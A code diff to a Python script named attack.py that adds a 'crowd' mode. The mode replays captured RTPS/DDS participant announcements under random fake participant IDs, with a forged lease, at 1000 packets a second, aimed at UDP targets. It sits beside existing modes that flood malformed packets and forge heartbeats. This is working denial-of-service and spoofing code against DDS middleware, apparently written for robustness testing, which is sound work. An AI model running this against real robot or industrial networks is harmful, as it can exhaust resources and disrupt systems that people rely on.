@@ -6,6 +6,7 @@ attack.py storm SECONDS RATE SEED KINDS TARGETS [FILE]
     KINDS      of random, rtps (a proper header and broken submessages), tcp, mutated (copies of FILE, broken), with commas
     TARGETS    JSON: {"udp": [[address, port], ...], "tcp": [...]}
 attack.py forge FILE SECONDS TARGETS   for so long heartbeats in the name of all who are in FILE, for every writer that they may have
+attack.py crowd FILE SECONDS TARGETS   for so long announcements as in FILE, each of another participant, which there is none of
 prints how much of each it sent, as JSON."""
 
 import json
@@ -228,6 +229,27 @@ def forge(path, seconds, targets):
     return {"members": len(names), "sent": sent * len(targets["udp"])}
 
 
+def crowd(path, seconds, targets):
+    """Each is there for 100 s, under a number that is made up; 1000 a second."""
+    lease = struct.pack("<HH", 0x02, 8)
+    known = [p for p in read_captured(path) if p[:4] == b"RTPS" and struct.pack(">I", 0x000100C2) in p and lease in p]
+    udp = sender(targets)
+    begin = time.monotonic()
+    sent = 0
+    while time.monotonic() - begin < seconds:
+        packet = random.choice(known)
+        packet = packet.replace(packet[8:20], b"\x80" + random.randbytes(11))
+        at = packet.index(lease) + 4
+        packet = packet[:at] + struct.pack("<II", 100, 0) + packet[at + 8:]
+        for target in targets["udp"]:
+            udp.sendto(packet, tuple(target))
+        sent += 1
+        ahead = begin + sent / 1000 - time.monotonic()
+        if ahead > 0:
+            time.sleep(ahead)
+    return {"announcements": len(known), "participants": sent}
+
+
 def main():
     what, *arguments = sys.argv[1:]
     if what == "ports":
@@ -235,9 +257,9 @@ def main():
     elif what == "capture":
         print("ready", flush=True)
         print(json.dumps(capture(arguments[0], float(arguments[1]))))
-    elif what == "forge":
+    elif what in ("forge", "crowd"):
         path, seconds, targets = arguments
-        print(json.dumps(forge(path, float(seconds), json.loads(targets))))
+        print(json.dumps((forge if what == "forge" else crowd)(path, float(seconds), json.loads(targets))))
     else:
         os.nice(10)  # it stands for another machine: what runs here is not to wait for it
         seconds, rate, seed, kinds, targets, *path = arguments
